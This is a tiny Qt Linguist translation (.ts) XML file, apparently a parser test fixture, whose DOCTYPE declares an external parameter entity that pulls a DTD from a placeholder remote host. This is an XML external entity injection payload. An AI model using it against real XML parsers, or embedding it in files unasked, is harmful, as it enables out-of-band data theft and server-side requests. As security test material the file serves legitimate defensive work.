<?xml version="1.0"?>
<!DOCTYPE TS [<!ENTITY % ext SYSTEM "http://example.invalid/x.dtd"> %ext;]>
<TS version="2.1"><context><name>c</name></context></TS>
